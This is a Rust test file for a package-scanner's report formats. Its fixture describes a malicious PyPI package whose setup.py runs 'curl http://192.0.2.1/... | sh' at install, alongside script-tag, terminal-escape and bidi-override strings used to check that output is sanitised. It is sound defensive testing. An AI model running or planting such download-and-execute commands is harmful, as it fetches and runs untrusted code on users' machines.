//! Tests of every format on one report with hostile content.

use std::collections::BTreeSet;

use lazaret_model::{
    Action, Assessment, Behaviour, Confidence, Evidence, Excerpt, Finding, Flow, Location,
    ObjectKind, Phase, Problem, Severity, Verdict,
};

use crate::{Format, Report, Style};

const SOURCE: &str =
    "import os\nos.system('curl http://192.0.2.1/<script>alert(1)</script> | sh')\n";

fn assessments() -> Vec<Assessment> {
    let location = Location {
        path: "setup.py".into(),
        start: 10,
        end: 19,
        line: 2,
        column: 1,
    };
    let behaviour = Behaviour {
        action: Action::Spawn,
        object: ObjectKind::Process,
        target: "curl http://192.0.2.1/<script>alert(1)</script> | sh\u{1b}[2J".into(),
        phase: Phase::Install,
        flows: BTreeSet::from([Flow::Network]),
        tags: BTreeSet::from(["shell".into()]),
        layers: vec!["base64".into()],
        api: "os.system".into(),
        location,
    };
    let finding = Finding {
        rule: "download-and-execute".into(),
        title: "Downloads code and runs it".into(),
        severity: Severity::Critical,
        confidence: Confidence::High,
        techniques: vec!["T1105".parse().unwrap()],
        subject: "evil-1.0.tar.gz".into(),
        message: "A shell runs what 192.0.2.1 answers.".into(),
        evidence: vec![Evidence::Behaviour {
            behaviour,
            excerpt: Excerpt::of(SOURCE, 10, 19),
        }],
        suppressed: None,
    };
    let reviewed = Finding {
        rule: "install-hook".into(),
        severity: Severity::Low,
        suppressed: Some("reviewed by <b>sec</b>".into()),
        ..finding.clone()
    };
    vec![
        Assessment {
            subject: "evil-1.0.tar.gz".into(),
            package: Some("pkg:pypi/evil@1.0".parse().unwrap()),
            sha256: Some("00".repeat(32)),
            verdict: Verdict::Block,
            reasons: vec!["downloads code and runs it at install".into()],
            findings: vec![finding, reviewed],
            problems: vec![Problem {
                kind: "entry-limit".into(),
                path: "a/\u{202e}b".into(),
                detail: "more than 100,000 entries".into(),
            }],
        },
        Assessment {
            subject: "left-pad".into(),
            package: Some("pkg:npm/left-pad@1.3.0".parse().unwrap()),
            sha256: None,
            verdict: Verdict::Allow,
            reasons: vec![],
            findings: vec![],
            problems: vec![],
        },
    ]
}

fn render(format: Format) -> String {
    let assessments = assessments();
    let report = Report {
        version: "0.0.0",
        time: None,
        assessments: &assessments,
    };
    let mut out = Vec::new();
    report.write(format, &Style::default(), &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn every_format_has_its_shape() {
    for (name, format) in Format::NAMES {
        insta::assert_snapshot!(*name, render(*format));
    }
}

#[test]
fn nothing_hostile_gets_through() {
    for (name, format) in Format::NAMES {
        let out = render(*format);
        assert!(!out.contains('\u{1b}'), "{name}: escape character");
        assert!(
            *format != Format::Html || !out.contains("<script>"),
            "{name}: script"
        );
    }
    assert!(
        !render(Format::Text).contains('\u{202e}'),
        "bidi control in text"
    );
}
